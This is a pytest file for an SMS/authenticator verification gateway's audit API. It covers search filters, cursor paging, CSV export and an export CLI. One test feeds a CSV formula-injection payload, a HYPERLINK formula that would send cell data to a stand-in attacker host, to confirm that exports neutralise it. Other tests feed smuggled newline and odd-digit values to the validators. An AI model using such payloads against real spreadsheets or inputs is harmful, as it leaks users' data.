"""Audit search, CSV export and the export CLI, over records the gateway's own scripts wrote."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time

import pyotp
import pytest

from gateway import audit, deliveries, verifications
from tests.conftest import TEST_DB, gateway_env
from tests.stack import ROOT

ANNA, BOB = "+48600100200", "+48600100201"
CODE = "424242"


def ended(app, client, to: str, how: str, **body) -> str:  # type: ignore[no-untyped-def]
    """Start an SMS verification and end it: approved, denied (max attempts) or canceled."""
    v = client.post("/v1/verifications", json={"to": to, "channel": "sms", **body}).get_json()
    svc = app.extensions["gateway"]
    assert deliveries.code_for(svc, verifications.get(svc, v["id"]), 1, CODE) == CODE
    if how == "approved":
        assert client.post(f"/v1/verifications/{v['id']}/check", json={"code": CODE}).get_json()["valid"]
    elif how == "denied":
        for _ in range(5):
            client.post(f"/v1/verifications/{v['id']}/check", json={"code": "000000"})
    else:
        client.post(f"/v1/verifications/{v['id']}/cancel")
    return v["id"]  # type: ignore[no-any-return]


@pytest.fixture
def three(app, client):  # type: ignore[no-untyped-def]
    """Anna approved, then Bob denied, then Anna canceled (newest)."""
    first = ended(app, client, ANNA, "approved", user_id="anna", client_ip="192.0.2.7",
                  user={"first_name": "Anna", "last_name": "Nowak", "email": "anna@example.com"})
    second = ended(app, client, BOB, "denied", user_id="bob")
    third = ended(app, client, ANNA, "canceled", user_id="anna")
    return first, second, third


def test_search_answers_the_seeds_fields_newest_first(admin, three) -> None:
    r = admin.get("/v1/audit")
    assert r.status_code == 200
    body = r.get_json()
    assert [x["verification_id"] for x in body["records"]] == list(reversed(three))
    assert body["next_cursor"] is None
    approved = body["records"][2]
    assert approved["user_id"] == "anna" and approved["first_name"] == "Anna" and approved["last_name"] == "Nowak"
    assert approved["email"] == "anna@example.com" and approved["phone_number"] == ANNA
    assert approved["mode"] == "sms" and approved["result"] == "approved" and approved["reason"] is None
    assert approved["client_ip"] == "192.0.2.7" and approved["server_name"] and "device_token" in approved
    assert approved["created_at"].endswith("Z") and approved["ended_at"] >= approved["created_at"]
    assert approved["attempts"][0]["channel"] == "sms" and approved["attempts"][0]["started_at"].endswith("Z")
    denied = body["records"][1]
    assert (denied["result"], denied["status"], denied["reason"]) == ("denied", "denied", "max_attempts")
    assert CODE not in r.get_data(as_text=True)


def test_filters(admin, three) -> None:
    def ids(query: str) -> list[str]:
        r = admin.get(f"/v1/audit?{query}")
        assert r.status_code == 200, r.get_json()
        return [x["verification_id"] for x in r.get_json()["records"]]

    first, second, third = three
    assert ids("user_id=anna") == [third, first]
    assert ids("to=%2B48600100201") == [second]
    assert ids("to=+48600100201") == [second]  # an unencoded + arrives as a space
    assert ids("status=denied") == [second]
    assert ids("status=approved&user_id=anna") == [first]
    assert ids("channel=call") == []
    assert ids("channel=sms&limit=1") == [third]
    assert ids("since=2000-01-01T00:00:00Z&until=2999-01-01T00:00:00%2B02:00") == [third, second, first]
    assert ids("until=2000-01-01T00:00:00Z") == []


def _add(redis_db, ms: int, n: int) -> str:  # type: ignore[no-untyped-def]
    """An audit entry at a given stream time, shaped like the finish script's."""
    fields = {"verification_id": f"vf_{n}", "user_id": "u", "phone_number": ANNA, "channel": "sms", "mode": "sms",
              "result": "approved", "status": "approved", "reason": "", "created_at": str(ms / 1000),
              "ended_at": str(ms / 1000), "channels": '["sms"]', "attempts": "{}", "server_name": "t"}
    return redis_db.xadd("gw:audit", fields, id=f"{ms}-0").decode()  # type: ignore[no-any-return]


def test_pages_follow_the_cursor_and_the_time_range_is_inclusive(admin, redis_db) -> None:
    base = 1_790_000_000_000
    for n in range(7):
        _add(redis_db, base + n * 1000, n)
    seen, cursor = [], None
    while True:
        r = admin.get("/v1/audit?limit=3" + (f"&cursor={cursor}" if cursor else ""))
        body = r.get_json()
        seen.append([x["verification_id"] for x in body["records"]])
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert seen == [["vf_6", "vf_5", "vf_4"], ["vf_3", "vf_2", "vf_1"], ["vf_0"]]
    since = audit.iso(base / 1000 + 2)
    until = audit.iso(base / 1000 + 4)
    r = admin.get(f"/v1/audit?since={since}&until={until}")
    assert [x["verification_id"] for x in r.get_json()["records"]] == ["vf_4", "vf_3", "vf_2"]


@pytest.mark.parametrize("query, field", [
    ("since=yesterday", "since"), ("until=2026-11-25", "until"), ("since=2026-11-25T10:00:00", "since"),
    ("status=pending", "status"), ("status=lost", "status"), ("channel=fax", "channel"),
    ("limit=0", "limit"), ("limit=501", "limit"), ("limit=ten", "limit"), ("cursor=abc", "cursor"),
    ("to=600100200", "to"), ("user_id=a%20b", "user_id"),
    ("since=2026-11-26T00:00:00Z&until=2026-11-25T00:00:00Z", "since"),
    # $ matches before a final newline; \d matches other scripts' digits (here Arabic-Indic)
    ("cursor=1790000000000-0%0A", "cursor"), ("to=%2B48600100200%0A", "to"),
    ("to=%2B48%D9%A6%D9%A0%D9%A0100200", "to"),
    ("limit=%C2%B2", "limit"),  # "²" passed isdigit, then int() failed: a 500
])
def test_bad_filters_are_refused_naming_the_field(admin, query, field) -> None:
    for path in ("/v1/audit", "/v1/audit.csv"):
        r = admin.get(f"{path}?{query}")
        assert r.status_code == 400, (path, query)
        error = r.get_json()["error"]
        assert error["code"] == "invalid_request" and f"'{field}'" in error["message"]


def test_limit_500_is_allowed(admin) -> None:
    assert admin.get("/v1/audit?limit=500").status_code == 200


def test_verify_keys_are_forbidden(client) -> None:
    for path in ("/v1/audit", "/v1/audit.csv"):
        r = client.get(path)
        assert r.status_code == 403 and r.get_json()["error"]["code"] == "forbidden"


def test_csv_streams_a_header_and_neutralises_formulas(app, admin, client) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    vid = ended(app, client, ANNA, "approved", user_id="carol",
                user={"first_name": formula, "last_name": "@SUM(1+1)", "email": "-x@example.com"})
    r = admin.get("/v1/audit.csv?user_id=carol")
    assert r.status_code == 200 and r.mimetype == "text/csv" and r.is_streamed
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True))))
    assert rows[0] == list(audit.FIELDS)
    row = dict(zip(rows[0], rows[1]))
    assert len(rows) == 2 and row["verification_id"] == vid
    assert row["first_name"] == "'" + formula and row["last_name"] == "'@SUM(1+1)"
    assert row["email"] == "'-x@example.com" and row["phone_number"] == "'" + ANNA
    assert "sms delivered" not in row["attempts"] and " sms queued" in row["attempts"]
    for cell in (c for line in rows[1:] for c in line):
        assert not cell.startswith(audit.FORMULA_START)


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, **gateway_env(TEST_DB)}
    return subprocess.run([sys.executable, "-m", "gateway", "audit", "export", *args], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=60)


def test_export_cli_writes_csv_and_json_lines(three) -> None:
    span = ("--since", "2000-01-01T00:00:00Z", "--until", "2999-01-01T00:00:00Z")
    out = _cli(*span, "--format", "jsonl")
    assert out.returncode == 0, out.stderr
    records = [json.loads(line) for line in out.stdout.splitlines()]
    assert [r["verification_id"] for r in records] == list(reversed(three))
    out = _cli(*span, "--user-id", "bob")
    rows = list(csv.reader(io.StringIO(out.stdout)))
    assert out.returncode == 0 and rows[0] == list(audit.FIELDS) and len(rows) == 2
    assert dict(zip(rows[0], rows[1]))["reason"] == "max_attempts"
    bad = _cli("--since", "last week", "--until", "2999-01-01T00:00:00Z")
    assert bad.returncode == 2 and "'since'" in bad.stderr and bad.stdout == ""


def test_refusals_of_the_abuse_limits_are_records_too(admin, client) -> None:
    for _ in range(6):
        r = client.post("/v1/verifications", json={"to": ANNA, "channel": "sms", "user_id": "dan"})
    assert r.status_code == 429
    body = admin.get("/v1/audit?status=refused&user_id=dan").get_json()
    [record] = body["records"]
    assert (record["event"], record["result"], record["phone_number"]) == ("refused", "denied", ANNA)
    assert record["reason"] and record["attempts"] == [] and record["action"] == "start"
    assert admin.get("/v1/audit?status=refused&channel=sms").get_json()["records"] == [record]


def _walk(admin, query: str) -> list[list[dict]]:  # type: ignore[no-untyped-def]
    """Every page of a search, following next_cursor (at most 50: a cursor that does not move on fails)."""
    pages, cursor = [], None
    for _ in range(50):
        r = admin.get(f"/v1/audit?{query}" + (f"&cursor={cursor}" if cursor else ""))
        assert r.status_code == 200, r.get_json()
        pages.append(r.get_json()["records"])
        cursor = r.get_json()["next_cursor"]
        if cursor is None:
            return pages
    raise AssertionError(f"next_cursor still {cursor} after 50 pages")


def test_changes_to_a_users_methods_are_found_by_user_id_among_the_verifications(app, client, admin) -> None:
    from tests.test_totp_enrolment import PERIOD, activate

    activate(client, "erin")  # enrol + confirm: authenticator_activated (first)
    proof = ended(app, client, ANNA, "approved", user_id="erin")
    ended(app, client, BOB, "denied", user_id="bob")  # someone else's
    r = client.post("/v1/users/erin/totp")
    new = pyotp.parse_uri(r.get_json()["otpauth_uri"])
    code = new.at(time.time() - PERIOD)
    r = client.post("/v1/users/erin/totp/confirm", json={"code": code, "verification_id": proof})
    assert r.status_code == 200, r.get_json()  # authenticator_replaced (proof)
    assert admin.delete("/v1/users/erin").status_code == 204  # methods_reset (admin)

    records = admin.get("/v1/audit?user_id=erin").get_json()["records"]
    assert [(x.get("event"), x.get("how"), x["verification_id"]) for x in records] == [
        ("methods_reset", "admin", None), ("authenticator_replaced", "proof", None), (None, None, proof),
        ("authenticator_activated", "first", None)]
    replaced = records[1]
    assert replaced["proof_verification_id"] == proof and replaced["user_id"] == "erin"
    assert replaced["status"] is None and replaced["phone_number"] is None and replaced["attempts"] == []
    assert replaced["ended_at"] == replaced["created_at"] and replaced["ended_at"].endswith("Z")
    assert records[0]["ended_at"] >= replaced["ended_at"] >= records[2]["ended_at"] >= records[3]["ended_at"]
    pages = _walk(admin, "user_id=erin&limit=1")
    assert [p for p in pages if p] == [[x] for x in records]  # each once, in order
    # filters that a change to methods has no value for leave it out
    approved = admin.get("/v1/audit?user_id=erin&status=approved").get_json()["records"]
    assert [x["verification_id"] for x in approved] == [proof]
    assert all(x["verification_id"] for x in admin.get(f"/v1/audit?to=%2B{ANNA[1:]}").get_json()["records"])
    rows = list(csv.DictReader(io.StringIO(admin.get("/v1/audit.csv?user_id=erin").get_data(as_text=True))))
    assert [(row["event"], row["how"]) for row in rows] == [(x.get("event", ""), x.get("how") or "") for x in records]


def test_the_cursor_walks_both_streams_once_even_where_their_ids_are_equal(admin, redis_db) -> None:
    base = 1_790_000_000_000
    for n in range(3):
        _add(redis_db, base + n * 1000, n)  # vf_0, vf_1, vf_2 in gw:audit

    def change(ms: int, event: str) -> None:
        redis_db.xadd("gw:audit:users", {"event": event, "user_id": "u", "how": "first", "proof_verification_id": "",
                                         "server_name": "t", "server_ip": "", "at": str(ms / 1000)}, id=f"{ms}-0")

    change(base + 1000, "authenticator_activated")  # the same id as vf_1
    change(base + 1500, "recovery_codes_regenerated")
    change(base + 2000, "methods_reset")  # the same id as vf_2
    expected = ["vf_2", "methods_reset", "recovery_codes_regenerated", "vf_1", "authenticator_activated", "vf_0"]
    for limit in (1, 2, 4, 6):
        pages = _walk(admin, f"limit={limit}")
        assert [x["verification_id"] or x["event"] for p in pages for x in p] == expected, limit
    since, until = audit.iso(base / 1000 + 1), audit.iso(base / 1000 + 2)
    r = admin.get(f"/v1/audit?since={since}&until={until}").get_json()
    assert [x["verification_id"] or x["event"] for x in r["records"]] == expected[:5]
